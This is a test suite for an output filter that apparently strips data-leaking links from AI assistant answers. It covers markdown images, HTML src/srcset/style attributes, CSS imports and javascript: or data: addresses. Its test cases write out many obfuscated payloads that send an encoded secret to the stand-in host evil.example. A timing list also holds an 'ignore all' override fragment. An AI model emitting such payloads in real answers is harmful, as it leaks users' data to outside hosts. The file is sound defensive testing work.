"""Addresses in answers: which go, which stay, and that nothing of one is shown before it has ended."""

from __future__ import annotations

import statistics

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from saferoute.guards.destinations import Destination, destination, is_allowed
from saferoute.guards.links import LinkGuard
from saferoute.guards.redacting import redacted
from saferoute.values.guarding import ALLOWED, Action, Context, Guard, Segment, Verdict
from tests.support.growth import LINEAR, growth

GUARD = LinkGuard()
EVIL = "https://evil.example/p?d=c2VjcmV0"
HOSTS = frozenset({"cdn.allowed.example", "*.Pictures.example"})


def judge(text: str, guard: LinkGuard = GUARD) -> Verdict:
    return guard.check(Segment(text, "assistant", "model"), Context("output", allowed_hosts=HOSTS))


def left(text: str, guard: LinkGuard = GUARD) -> str:
    return redacted(text, judge(text, guard).spans, lambda kind: "_")


def test_it_is_a_guard() -> None:
    assert isinstance(GUARD, Guard)
    assert GUARD.name == "links"
    assert GUARD.stages == frozenset({"output"})


GONE = {
    "image": (f"![a]({EVIL})", "![a](_)"),
    "image with a title": (f'![a]({EVIL} "title")', '![a](_ "title")'),
    "image in brackets": (f"![a](<{EVIL} x>)", "![a](<_>)"),
    "image on the next line": (f"![a](\n  {EVIL})", "![a](\n  _)"),
    "image that has not ended": (f"![a]({EVIL}", "![a](_"),
    "image in a link": (f"[![a]({EVIL})](https://example.org)", "[![a](_)](https://example.org)"),
    "image with brackets in its text": (f"![a [b] c]({EVIL})", "![a [b] c](_)"),
    "image with code in its text": (f"![ `[` ]({EVIL})", "![ `[` ](_)"),
    "image with an escape in its text": (f"![ \\] ]({EVIL})", "![ \\] ](_)"),
    "image with a link in its text": (f"![a [b](https://example.org) c]({EVIL})", "![a [b](_) c](_)"),
    "second image": (f"![a](https://cdn.allowed.example/a.png) ![b]({EVIL})", "![a](https://cdn.allowed.example/a.png) ![b](_)"),
    "without a scheme": ("![a](//evil.example/x)", "![a](_)"),
    "backslashes": ("![a](\\\\evil.example/x)", "![a](_)"),
    "one slash": ("![a](https:/evil.example/x)", "![a](_)"),
    "no slash": ("![a](https:evil.example)", "![a](_)"),
    "entities": ("![a](https&#58;//evil.example/x)", "![a](_)"),
    "a user who looks like a host": ("![a](https://cdn.allowed.example@evil.example/)", "![a](_)"),
    "an escaped at sign": ("![a](https://cdn.allowed.example\\@evil.example/)", "![a](_)"),
    "an entity for an at sign": ("![a](https://cdn.allowed.example&#64;evil.example/)", "![a](_)"),
    "a name that begins like an allowed one": ("![a](https://cdn.allowed.example.evil.example/)", "![a](_)"),
    "a name above a wildcard": ("![a](https://pictures.example/)", "![a](_)"),
    "no host": ("![a](https://)", "![a](_)"),
    "other schemes": ("![a](ftp://evil.example/x)", "![a](_)"),
    "definition behind": (f"![logo][1]\n\n[1]: {EVIL}", "![logo][1]\n\n[1]: _"),
    "definition before": (f"[1]: <{EVIL}>\n\n![logo][1]", "[1]: <_>\n\n![logo][1]"),
    "definition on the next line": (f"[1]:\n  {EVIL}\n", "[1]:\n  _\n"),
    "img": (f"<img src={EVIL}>", "<img src=_>"),
    "img in capitals with quotes": (f"<IMG alt='>' SRC = '{EVIL}'/>", "<IMG alt='>' SRC = '_'/>"),
    "img with a slash": (f'<img/src="{EVIL}">', '<img/src="_">'),
    "img without an end": (f"<img src={EVIL}", "<img src=_"),
    "img with a quote without an end": (f'<img src="{EVIL} ', '<img src="_ '),
    "img in lines": (f'<img\n\nsrc="{EVIL}">', '<img\n\nsrc="_">'),
    "img with a broken address": ('<img src="ht\ntps://evil.example/">', '<img src="_">'),
    "srcset": (f'<img srcset="a.png 1x, {EVIL} 2x">', '<img srcset="a.png 1x, _ 2x">'),
    "srcset with entities": ('<img srcset="a.png, https:&#47;&#47;evil.example/ 2x">', '<img srcset="_">'),
    "source": (f'<picture><source srcset="{EVIL}"></picture>', '<picture><source srcset="_"></picture>'),
    "iframe": (f'<iframe src="{EVIL}"></iframe>', '<iframe src="_"></iframe>'),
    "stylesheet": (f'<link rel=stylesheet href="{EVIL}">', '<link rel=stylesheet href="_">'),
    "form": (f'<form action="{EVIL}">', '<form action="_">'),
    "refresh": (f'<meta http-equiv=refresh content="0;url={EVIL}">', '<meta http-equiv=refresh content="0;url=_">'),
    "param": (f'<object><param name=movie value="{EVIL}">', '<object><param name=movie value="_">'),
    "style attribute": (f'<div style="background:url({EVIL})">', '<div style="background:url(_)">'),
    "style attribute in quotes": (f"<div style=\"background:url('{EVIL}')\">", "<div style=\"background:url('_')\">"),
    "style attribute with escapes": ('<p style="background:u\\72l(//evil.example)">', '<p style="_">'),
    "style sheet": (f'<style>@import "{EVIL}";</style>', '<style>@import "_";</style>'),
    "image set": (f"<style>a{{background:image-set('{EVIL}' 1x)}}</style>", "<style>a{background:image-set('_' 1x)}</style>"),
    "code block": (f"```\n![a]({EVIL})\n```", "```\n![a](_)\n```"),
    "script": ("[click](javascript:alert)", "[click](_)"),
    "script in capitals": ("[click](JavaScript:alert)", "[click](_)"),
    "script with entities": ("[click](java&#115;cript&colon;alert)", "[click](_)"),
    "script with an escape": ("[click](javascript\\:alert)", "[click](_)"),
    "script in an attribute": ('<a href="java\tscript:alert(1)">x</a>', '<a href="_">x</a>'),
    "script as an address": ("<vbscript:x>", "<_>"),
    "script in a definition": ("[1]: javascript:x", "[1]: _"),
    "page in an address": ("[x](data:text/html;base64,PGI+)", "[x](_)"),
    "drawing in a link": ("[x](data:image/svg+xml,<svg>)", "[x](_<svg>)"),
    "large picture": ("![x](data:image/png;base64," + "A" * 70_000 + ")", "![x](_)"),
}


@pytest.mark.parametrize("case", GONE)
def test_what_sends_data_away_or_runs_is_taken_out(case: str) -> None:
    text, expected = GONE[case]
    assert left(text) == expected
    assert judge(text).action is Action.REDACT


STAYS = {
    "nothing": "",
    "prose": "Nothing here: not even (an address) or a [bracket].",
    "link": f"[the notes]({EVIL}) and <{EVIL}> and {EVIL}",
    "link behind an image": f"![a](https://cdn.allowed.example/x.png)\n\n[b]({EVIL})",
    "link in the paragraph after an odd image": f"![a [b] c](https://cdn.allowed.example/x.png)\n\n[t]({EVIL})",
    "link in HTML": f'<a href="{EVIL}">x</a> <area href={EVIL}>',
    "empty link": "[a]() ![b]()",
    "allowed": "![chart](https://cdn.allowed.example/c.png)",
    "allowed, port and case": "![chart](HTTPS://CDN.Allowed.Example.:443/c.png)",
    "allowed, below a wildcard": "![chart](https://a.b.pictures.example/c.png)",
    "small picture": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "small drawing": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "file": "[table](data:text/csv,a)",
    "local": "![x](/a.png) ![y](b/c.png) ![z](#f) ![w](cid:part1) [m](mailto:a@example.org) <b:c>",
    "other elements": '<p class="x">//a</p> <foo src="https://evil.example"> <input value="https://evil.example">',
    "namespaces": '<svg xmlns="http://www.w3.org/2000/svg"></svg>',
    "generics": "List<String> x = a<b ? c : d; for (i=0;i<n;i++)",
    "rust": "#![allow(dead_code)]\n\nlet v = vec![1, 2, 3];",
    "attribute without a value": "<img alt>",
    "empty attribute": '<img src="">',
    "style without addresses": '<p style="color:red;background:url(#a)">x</p>',
    "list with entities only": '<img srcset="a.png?x=1&amp;y=2 1x">',
    "words": "curl(//x) and src and @important (url)",
    "definition of a path": "[1]: /a/b\n[y]:> [x]:",
}


@pytest.mark.parametrize("case", STAYS)
def test_what_a_person_must_follow_and_what_is_allowed_stays(case: str) -> None:
    assert judge(STAYS[case]) is ALLOWED


def test_reasons_hold_nothing_of_the_text() -> None:
    verdict = judge(f"![a]({EVIL})")
    assert verdict.reasons == ("image from a host that is not allowed",)
    assert [span.kind for span in verdict.spans] == ["link.image"]


def test_links_are_judged_on_request() -> None:
    guard = LinkGuard(links=True)
    assert left(f"[a]({EVIL}) <{EVIL}> see {EVIL}", guard) == "[a](_) <_> see _"
    assert (
        left("[a](https://cdn.allowed.example/x) https://cdn.allowed.example/y z", guard)
        == "[a](https://cdn.allowed.example/x) https://cdn.allowed.example/y z"
    )
    assert judge(f"see {EVIL}", guard).reasons == ("link to a host that is not allowed",)


def test_an_application_that_shows_code_judges_images_only() -> None:
    guard = LinkGuard(markup=False)
    page = f'<script src="{EVIL}"></script><link href="{EVIL}"><style>@import "{EVIL}"</style>'
    assert left(page, guard) == page
    assert left(f'<img src="{EVIL}"><a href="javascript:x">', guard) == '<img src="_"><a href="_">'


def test_an_address_that_comes_again_is_judged_by_what_becomes_of_it() -> None:
    address = "https://evil.example/p"
    text = f"[a]({address}) ![a]({address}) [a]({address}) <iframe src={address}> ![a]({address})"
    verdict = judge(text)
    assert [(span.start, span.kind) for span in verdict.spans] == [
        (33, "link.image"), (text.index("<iframe") + 12, "link.markup"), (text.rindex(address), "link.image")
    ]  # fmt: skip


def test_of_very_many_addresses_the_rest_goes_too() -> None:
    text = f"![a]({EVIL}) " * 4200
    verdict = judge(text)
    assert len(verdict.spans) <= 4097
    assert verdict.spans[-1].end == len(text) or max(span.end for span in verdict.spans) == len(text)


def test_destinations_are_read_as_browsers_read_them() -> None:
    assert destination(" HTTPS://User:pw@Host.Example.:8443/x") == Destination("remote", "host.example")
    assert destination("http://[::1]:80/") == Destination("remote", "[::1]")
    assert destination("a\\b") == Destination("local")
    assert destination("https://a.example\\.b.example") == Destination("remote")
    assert destination("data:,x") == Destination("file")
    assert destination("data:application/xhtml+xml,x") == Destination("page")
    assert destination("tel:1") == Destination("local")
    assert not is_allowed("", frozenset({""}))


OPEN = {
    "![a": 0, "x ![a](": 2, "x ![a](htt": 2, "x ![a](https://e/ ": None, "x ![a]": 2, "x ![a] y": None, "![a [b] c": 0, "![a `b` c](u)\n\nd": None,
    "x <img src=": 2, "x <img src=a>": None, "x <im": 2, "x <": 2, "x < ": None, "[a](htt": 4, "[a](b ": None, "[a]: htt": 4, "[a]: b ": None,
    "x url(htt": 6, "x url(htt)": None, "<java": 0, "<javascript:x": 0, "<javascript:x>": None, "a word": None,
}  # fmt: skip


@pytest.mark.parametrize("text", OPEN)
def test_what_has_not_ended_is_held(text: str) -> None:
    place = OPEN[text]
    expected = len(text) if place is None else place
    assert GUARD.open_candidate(text) == (1 if text == "<javascript:x" else expected)
    long = "word " * 400 + text
    assert GUARD.open_candidate(long, 1900) >= 1900


def test_addresses_in_the_text_are_held_on_request() -> None:
    guard = LinkGuard(links=True)
    assert guard.open_candidate("see htt") == 4
    assert guard.open_candidate("see https://a.exa") == 4
    assert guard.open_candidate("see https://a.example and") == 25


PIECES = st.sampled_from(
    ["![", "[", "]", "](", "](", ")", "]: ", "a", " ", "\n", "\n\n", "`", "\\", "<", ">", EVIL, "//e", "https:", "javascript:x", "<img src=", '"', "'",
     "<a href=", "style=", "url(", "@import ", "&#47;", "srcset=", ",", "data:text/html,x", "<!--", "word "]
)  # fmt: skip


@settings(max_examples=60)
@given(st.lists(PIECES, max_size=14).map("".join), st.integers(1, 9), st.booleans())
@example(f"![a [b `]` ](x) c]({EVIL}) d", 1, False)
@example(f"<img alt='>' src={EVIL}>", 1, False)
@example(f"see {EVIL} now", 1, True)
def test_nothing_of_an_address_is_shown_before_it_has_ended(text: str, step: int, links: bool) -> None:
    guard = LinkGuard(links=links)
    spans = judge(text, guard).spans
    shown = 0
    for size in range(step, len(text) + step, step):
        part = text[:size]
        safe = guard.open_candidate(part, shown)
        assert shown <= safe <= len(part)
        gone = {place for span in judge(part[:safe], guard).spans for place in range(span.start, span.end)}
        for span in spans:
            assert set(range(span.start, min(span.end, safe))) <= gone, (part[:safe], span)
        shown = safe


ANSWER = (
    "The committee met on Tuesday to talk about the new library (see [the notes](https://example.org/notes/2024)). It opens in spring;\n"
    "most members agreed that `reading_room[0]` stays quiet.\n\n- **Time:** 10:30\n- **Place:** <b>old station</b>, a < b\n\n"
    "```python\nfor name in names[1:]:\n    print(f'{name}: {ages[name]}')\n```\n\n![plan](/plan.png) And so on. "
) * 3


def test_honest_answers_are_hardly_held() -> None:
    held = [size - GUARD.open_candidate(ANSWER[:size]) for size in range(1, len(ANSWER))]
    assert statistics.median(held) <= 32
    assert max(held) < 100
    assert judge(ANSWER) is ALLOWED


FAMILIES = [
    "a.", "sk-", "![", "1 ", "ignore all ", "key=", "a@", "\u200b", "<!--", " ", "](", "](//a", "![a](", "![`", "[![", "<img ", '<a href="', "<a b='",
    "<img src=//x ", "url(//", '<div style="', "<", "]: ", "]:", "@import ", "@import", "<x:", "![a]", "(", "https://", "\n\n![\\", "<a =",
]  # fmt: skip


def work(text: str) -> None:
    judge(text)
    GUARD.open_candidate(text)
    LinkGuard(links=True).open_candidate(text)


@pytest.mark.timed
@pytest.mark.parametrize("family", FAMILIES)
def test_hostile_text_is_judged_in_linear_time(family: str) -> None:
    assert growth(work, family, 8_000) <= LINEAR
